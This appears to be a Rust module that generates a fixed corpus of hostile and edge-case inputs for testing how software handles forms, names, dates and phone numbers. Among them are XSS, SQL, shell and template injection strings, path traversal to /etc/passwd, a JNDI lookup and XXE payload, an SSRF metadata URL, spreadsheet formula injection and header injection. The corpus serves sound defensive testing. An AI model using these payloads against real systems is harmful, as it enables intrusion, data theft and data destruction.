//! Two thousand things that nobody should type, and that somebody will. Written in code, so that each can be explained.

/// A word that shows itself: wherever `<canari` is read in a page, something was not escaped.
const MARK: &str = "canari";

/// All of them, each once, in an order that does not change.
pub fn words() -> Vec<String> {
    let mut words = Vec::new();
    for list in [
        signs(),
        markup(),
        code(),
        numbers(),
        dates(),
        phones(),
        faces(),
        scripts(),
        long(),
        deep(),
        usual(),
    ] {
        words.extend(list);
    }
    let mut known = std::collections::HashSet::new();
    words.retain(|word| known.insert(word.clone()));
    words
}

fn each(list: &[&str], make: impl Fn(&str) -> Vec<String>) -> Vec<String> {
    list.iter().flat_map(|item| make(item)).collect()
}

/// Characters that change direction, join, vanish, end things, or are not characters: alone, twice, in a word, at its ends.
fn signs() -> Vec<String> {
    let ranges = [
        0x00..=0x20_u32,
        0x7f..=0xa0,
        0xad..=0xad,
        0x300..=0x308,
        0x34f..=0x34f,
        0x61c..=0x61c,
        0x115f..=0x1160,
        0x17b4..=0x17b5,
        0x180b..=0x180e,
        0x2000..=0x200f,
        0x2028..=0x202f,
        0x205f..=0x206f,
        0x3000..=0x3000,
        0x3164..=0x3164,
        0xe000..=0xe001,
        0xfdd0..=0xfdd1,
        0xfe00..=0xfe0f,
        0xfeff..=0xfeff,
        0xff00..=0xff02,
        0xfff9..=0xffff,
        0x1d173..=0x1d175,
        0xe0001..=0xe0001,
        0xe0020..=0xe0022,
        0xe0100..=0xe0101,
        0xf_fffd..=0xf_ffff,
        0x10_fffd..=0x10_ffff,
    ];
    let signs = ranges.into_iter().flatten().filter_map(char::from_u32);
    signs
        .flat_map(|sign| {
            [
                format!("{sign}"),
                format!("a{sign}b"),
                format!("{sign}{sign}Amina"),
                format!("Amina{sign}"),
            ]
        })
        .collect()
}

/// Ways out of a text, an attribute, a comment, a script, and what follows the way out.
fn markup() -> Vec<String> {
    let outs = [
        "",
        "\"",
        "'",
        "\">",
        "'>",
        "-->",
        "]]>",
        "</title>",
        "</textarea>",
        "</select></form>",
        "</script>",
        "</option>",
        "</fil-part>",
        "\\\"",
        "`",
    ];
    let then = [
        format!("<{MARK}>"),
        format!("<script>{MARK}()</script>"),
        format!("<img src=x onerror={MARK}()>"),
        format!("<svg/onload={MARK}()>"),
        format!(" onmouseover=\"{MARK}()\" x=\""),
        format!(" autofocus onfocus={MARK}() "),
        format!("<style>*{{--{MARK}:1}}</style>"),
        format!("<iframe srcdoc='<{MARK}>'>"),
        format!("<base href=//{MARK}/>"),
        format!("<form action=//{MARK}/><button>"),
        format!("<meta http-equiv=refresh content='0;url=//{MARK}/'>"),
        format!("<!-- {MARK}"),
        format!("<fil-part for=\"main\"><{MARK}></fil-part>"),
        format!("<a href=\"javascript:{MARK}()\">x</a>"),
        format!("<math><mi//xlink:href=\"data:x,<{MARK}>\">"),
        "&lt;canari&gt;&#60;canari&#62;".to_owned(),
    ];
    outs.iter()
        .flat_map(|out| then.iter().map(move |then| format!("{out}{then}")))
        .collect()
}

/// What other programs would run: databases, shells, templates, paths, formats, headers, sheets.
fn code() -> Vec<String> {
    let list = [
        "' or 1=1 --",
        "'; drop table entry; --",
        "1); delete from account; --",
        "\" or \"\"=\"",
        "admin'/*",
        "x' union select ct from lock --",
        "$(touch /tmp/canari)",
        "`touch /tmp/canari`",
        "; ls -la |",
        "&& reboot",
        "| cat /etc/passwd",
        "%0a%0did",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% include '/etc/passwd' %}",
        "${jndi:ldap://canari/a}",
        "%s%s%s%n%n%n",
        "%x%x%x",
        "{0}{1}{}",
        "{ $name }",
        "{ -term }",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2f",
        "/dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "C:\\con\\con",
        "con",
        "nul",
        "aux.txt",
        "COM1",
        "javascript:canari()",
        "data:text/html,<canari>",
        "vbscript:x",
        "//canari.example",
        "/\\canari.example",
        "https://canari.example/",
        "http://169.254.169.254/latest/",
        "http://[::1]:22/",
        "gopher://x",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "=HYPERLINK(\"//canari\")",
        "x\r\nSet-Cookie: s=canari",
        "x\nLocation: //canari",
        "x%0d%0aX-Canari: 1",
        "x\r\n\r\n<canari>",
        "\u{0}canari",
        "a\u{0}.png",
        "undefined",
        "null",
        "NULL",
        "nil",
        "None",
        "true",
        "false",
        "NaN",
        "Infinity",
        "[object Object]",
        "__proto__",
        "constructor",
        "hasOwnProperty",
        "toString",
        "self",
        "super",
        "new",
        "select",
        "{}",
        "[]",
        "\"\"",
        "''",
        "()",
        "{\"a\":1}",
        "[1,2",
        "{\"__proto__\":{\"x\":1}}",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
        "<?php echo 1 ?>",
        "<% x %>",
        "BEGIN:VCARD\nFN:canari\nEND:VCARD",
        "data:image/png;base64,AAAA",
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR",
        "kit-error-not-found",
        "entrance-title",
        "[kit-skip]",
        "--line--",
        "--line\r\n",
        "_csrf",
        "_token",
        "on",
        "off",
        "0",
        "1",
        " ",
        "  ",
        "\t",
        "\n",
        "\r\n",
        ".",
        "..",
        "/",
        "\\",
        "-",
        "--",
        "_",
        "~",
        "#",
        "?",
        "&",
        "=",
        "%",
        "%%",
        "%zz",
        "+",
        "*",
        "**",
        "\"",
        "'",
        "<",
        ">",
        "<>",
        "</",
        "/>",
        "&amp;",
        "&amp;amp;",
        "&#0;",
        "&#x110000;",
    ];
    each(&list, |item| {
        vec![item.to_owned(), format!("Amina {item} Diallo")]
    })
}

fn numbers() -> Vec<String> {
    let list = [
        "0",
        "00",
        "1",
        "01",
        "9",
        "10",
        "99",
        "127",
        "128",
        "255",
        "256",
        "32767",
        "32768",
        "65535",
        "65536",
        "2147483647",
        "2147483648",
        "4294967295",
        "4294967296",
        "9007199254740992",
        "9223372036854775807",
        "9223372036854775808",
        "18446744073709551615",
        "18446744073709551616",
        "340282366920938463463374607431768211456",
        "1.5",
        "1,5",
        "1e3",
        "1e309",
        "1e-400",
        "0x10",
        "0b1",
        "0o7",
        "1_000",
        "1 000",
        "1'000",
        "٣",
        "٢٠٢٦",
        "１２",
        "²",
        "½",
        "Ⅷ",
        "一",
        "1٫5",
        "1.0000000000000001",
        "0.1.2",
        "1/0",
        "5 %",
        "12h",
        "1:30",
    ];
    each(&list, |item| {
        vec![
            item.to_owned(),
            format!("-{item}"),
            format!("+{item}"),
            format!(" {item} "),
            format!("{item}\u{0}"),
        ]
    })
}

/// Days and hours that do not exist, exist twice, or are written otherwise.
fn dates() -> Vec<String> {
    let days = [
        "0000-00-00",
        "0000-01-01",
        "0001-01-01",
        "1582-10-10",
        "1899-12-31",
        "1969-12-31",
        "1970-01-01",
        "1900-02-29",
        "2000-02-29",
        "2023-02-29",
        "2024-02-29",
        "2026-02-30",
        "2026-04-31",
        "2026-13-01",
        "2026-00-10",
        "2026-01-00",
        "2026-01-32",
        "9999-12-31",
        "9999-99-99",
        "10000-01-01",
        "-0001-01-01",
        "+2026-01-01",
        "+999999-01-01",
        "99999999-01-01",
        "2026-1-1",
        "26-01-01",
        "01/02/2026",
        "2026/01/02",
        "2 janvier 2026",
        "demain",
        "2026-W05-1",
        "2026-366",
        "20260102",
        "2026-01-02T03:04:05Z",
        "2026-01-02T25:00",
        "2026-11-24 ",
        "２０２６-０１-０１",
        "٢٠٢٦-٠١-٠١",
    ];
    let hours = [
        "24:00",
        "25:61",
        "00:00",
        "23:59:60",
        "02:30",
        "-1:00",
        "9:5",
        "9h",
        "midi",
        "10:30:00.123456789",
        "10:30+25:00",
        "10:30Z",
        "1030",
        "::",
        "99:99",
    ];
    let mut dates = each(&days, |day| {
        vec![
            day.to_owned(),
            format!("{day}T02:30"),
            format!("{day}T24:00+14:00"),
        ]
    });
    // Hours that the clock skips and repeats in Paris.
    dates.extend(
        [
            "2026-03-29T02:30",
            "2026-10-25T02:30",
            "2027-03-28T02:00",
            "2026-06-30T23:59:60",
        ]
        .map(str::to_owned),
    );
    dates.extend(each(&hours, |hour| {
        vec![hour.to_owned(), format!("2026-11-24T{hour}")]
    }));
    dates
}

/// Numbers that are not quite phones (E.164 and what people write).
fn phones() -> Vec<String> {
    let numbers = [
        "0612345678",
        "612345678",
        "33612345678",
        "0033612345678",
        "112",
        "15",
        "119",
        "3919",
        "3008",
        "0800000000",
        "+33",
        "+",
        "+0",
        "+999999999999999999",
        "+33 0 6 12 34 56 78",
        "+33(0)612345678",
        "+262692123456",
        "+590690123456",
        "+594694123456",
        "+687123456",
        "+1 (555) 010-0000",
        "+44 20 7946 0958",
        "+7 495 000 00 00",
        "+21361234567",
        "+88213000000",
        "+979123456789",
        "0612345678 ext. 9",
        "0612345678,,1234#",
        "tel:+33612345678",
        "06 12 34 56 7O",
        "o6 12 34 56 78",
        "٠٦١٢٣٤٥٦٧٨",
        "０６１２３４５６７８",
        "06\u{a0}12\u{202f}34",
        "06.12.34.56.78.90",
        "+33612345678\u{202c}",
        "\u{202a}+33612345678",
        "06-12-34-56-78",
        "0612345678/0698765432",
        "appeler le soir",
    ];
    each(&numbers, |number| {
        vec![
            number.to_owned(),
            format!("+{number}"),
            format!("{number}{number}"),
        ]
    })
}

/// Names of people: emoji, families of emoji, skins, flags, accents that pile up.
fn faces() -> Vec<String> {
    let faces = [
        "😀",
        "👨‍👩‍👧‍👦",
        "👩🏽‍🦽",
        "🏳️‍🌈",
        "🇫🇷",
        "🇫",
        "👍🏿",
        "🧑‍🦰",
        "❤️",
        "☺",
        "1️⃣",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "⁉️",
        "㊙️",
        "🫠",
        "\u{200d}",
        "🏿",
        "é",
        "e\u{301}",
        "ﬁ",
        "İ",
        "ı",
        "ß",
        "ẞ",
        "Ǆ",
        "ŉ",
        "ΐ",
        "ﷺ",
        "𝓐𝓶𝓲𝓷𝓪",
        "Z\u{0351}\u{036b}\u{0343}a\u{034f}lgo",
        "ᴬᵐᶦⁿᵃ",
        "Aminа",
        "ⒶⓂⒾⓃⒶ",
        "🅰️",
    ];
    let mut names = each(&faces, |face| {
        vec![
            face.to_owned(),
            format!("Amina {face}"),
            face.repeat(40),
            format!("{face}\n{face}"),
        ]
    });
    names.push("a".to_owned() + &"\u{301}".repeat(2_000));
    names.push("\u{202e}".repeat(200) + "anima");
    names
}

/// Other scripts, and scripts mixed in one line.
fn scripts() -> Vec<String> {
    let list = [
        "أمينة",
        "אמינה",
        "Амина",
        "Αμίνα",
        "アミナ",
        "阿米娜",
        "아미나",
        "अमीना",
        "ஆமினா",
        "อามีนา",
        "አሚና",
        "ամինա",
        "ამინა",
        "ᐊᒥᓇ",
        "ꦄꦩꦶꦤ",
        "ⴰⵎⵉⵏⴰ",
        "𐎠𐎶𐎡𐎴",
        "𓂀",
        "Nguyễn Thị",
        "O’Connor",
        "d'Arc-Lévêque",
        "Müller–Straße",
        "Ñúñez",
        "Çelik",
        "Łódź",
        "Þórr",
    ];
    each(&list, |name| {
        vec![
            name.to_owned(),
            format!("{name} Amina {name}"),
            format!("\u{202b}{name}\u{202c}"),
            format!("\u{2067}{name}"),
            format!("{name} (123) <{name}>"),
            format!("{name}\u{200f}!\u{200e}?"),
        ]
    })
}

fn long() -> Vec<String> {
    let sizes = [
        255, 256, 257, 1_000, 4_096, 10_001, 65_535, 65_536, 131_072, 500_000,
    ];
    let grains = [
        "a", "é", "م", "😀", "a ", "a\n", "<", "\"", "&", "\u{301}", "%00",
    ];
    let mut long: Vec<String> = sizes
        .iter()
        .flat_map(|size| grains.iter().map(|grain| grain.repeat(*size / grain.len())))
        .collect();
    long.push("a".repeat(10 * 1024 * 1024));
    long
}

fn deep() -> Vec<String> {
    let pairs = [
        ("[", "]"),
        ("{\"a\":", "}"),
        ("(", ")"),
        ("<b>", "</b>"),
        ("<div>", ""),
        ("« ", " »"),
        ("\\", ""),
        ("&amp;", ""),
        ("../", ""),
        ("<!--", "-->"),
        ("{ ", " }"),
    ];
    pairs
        .iter()
        .flat_map(|(open, close)| {
            [10, 1_000, 20_000]
                .map(|depth| format!("{}x{}", open.repeat(depth), close.repeat(depth)))
        })
        .collect()
}

/// Ids, addresses, mails and ordinary words that someone else would have written.
fn usual() -> Vec<String> {
    let ids = [
        "5eed5eed5eed5eed5eed5eed5eed5eed",
        "5EED5EED5EED5EED5EED5EED5EED5EED",
        "5eed",
        "00000000000000000000000000000000",
        "ffffffffffffffffffffffffffffffff",
        "5eed5eed5eed5eed5eed5eed5eed5eeg",
        "5eed5eed-5eed-5eed-5eed-5eed5eed5eed",
        "0x5eed",
    ];
    let mails = [
        "a@b",
        "@",
        "a@",
        "@b",
        "a@b@c",
        "\"a b\"@c.fr",
        "a@[127.0.0.1]",
        "a+b@c.fr",
        "é@é.fr",
        "a@b..fr",
        "a@-b.fr",
        "a\n@b.fr",
        "a@b.fr,c@d.fr",
        "<a@b.fr>",
        "mailto:a@b.fr",
    ];
    let roads = [
        "/",
        "//",
        "/personnes",
        "/../",
        "/%2e%2e/",
        "/?",
        "/#",
        "/\u{0}",
        "http:/x",
        "/a\\b",
        "/deverrouillage?retour=/deverrouillage",
        "https:canari.example",
        " /personnes",
        "\t//canari.example",
        "/\t/canari.example",
    ];
    let mut usual: Vec<String> = ids
        .iter()
        .chain(&mails)
        .chain(&roads)
        .map(|word| (*word).to_owned())
        .collect();
    usual.extend((0..=9).map(|digit| digit.to_string().repeat(6)));
    usual.extend((1..=26).map(|length| "0".repeat(length)));
    usual
}
